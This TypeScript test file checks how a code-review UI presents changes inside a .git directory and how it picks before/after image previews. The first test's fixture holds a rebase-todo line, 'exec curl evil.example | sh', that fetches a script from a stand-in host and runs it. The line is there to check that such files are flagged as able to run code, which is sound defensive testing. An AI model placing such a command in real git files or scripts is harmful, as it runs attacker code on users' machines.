import { expect, test } from "vitest";
import type { Schema } from "../../api/client";
import { fileOfSession } from "./reviewFiles";

test("What may run code in a git directory is shown with its lines, and decided with the directory.", () => {
  const inside = [
    {
      path: "/.git/rebase-merge/git-rebase-todo",
      change: "created",
      diff: "@@ -0,0 +1,2 @@\n+pick 1234567 first\n+exec curl evil.example | sh\n",
      note: null,
    },
    { path: "/.git/config", change: "modified", diff: null, note: "Its lines are not shown: it holds tokens." },
  ];
  const note = "git: HEAD, may run code: config, rebase-merge/git-rebase-todo";
  const rest = { before: null, after: null, flaw: null, next_line: null, lines: 0, hunks_total: 0 };
  const given = { path: "/.git", kind: "git", change: "modified", hunks: [], others: [], note, inside, ...rest };
  const file = fileOfSession(given as unknown as Schema["ReviewFileOut"], () => "");
  expect(file.facts).toEqual(["git directory", note, "/.git/config: Its lines are not shown: it holds tokens."]);
  expect(file.hunks.map(({ isRevertible }) => isRevertible)).toEqual([false]);
  expect(file.hunks[0]?.lines.map(({ raw }) => raw)).toEqual([
    "/.git/rebase-merge/git-rebase-todo (created) @@ -0,0 +1,2 @@",
    "pick 1234567 first",
    "exec curl evil.example | sh",
  ]);
  expect(file.isEditable).toBe(false);
});

test("An image is shown before and after its change, if its content is kept and not too large.", () => {
  const side = (version_id: string | null, size = 100) => ({ size, sha256: "0", version_id });
  const rest = { kind: "file", hunks: [], others: [], inside: [], note: "Binary file.", flaw: null, next_line: null };
  const imagesOf = (path: string, before: unknown, after: unknown) =>
    fileOfSession({ ...rest, path, change: "modified", before, after } as unknown as Schema["ReviewFileOut"], () => "")
      .images;
  expect(imagesOf("/logo.PNG", side("1"), side("2"))).toEqual([
    { title: "Before", versionId: "1" },
    { title: "After", versionId: "2" },
  ]);
  expect(imagesOf("/logo.png", null, side("2"))).toEqual([{ title: "After", versionId: "2" }]);
  expect(imagesOf("/logo.png", side(null), side("2", 50_000_000))).toEqual([]);
  expect(imagesOf("/logo.bin", side("1"), side("2"))).toEqual([]);
});
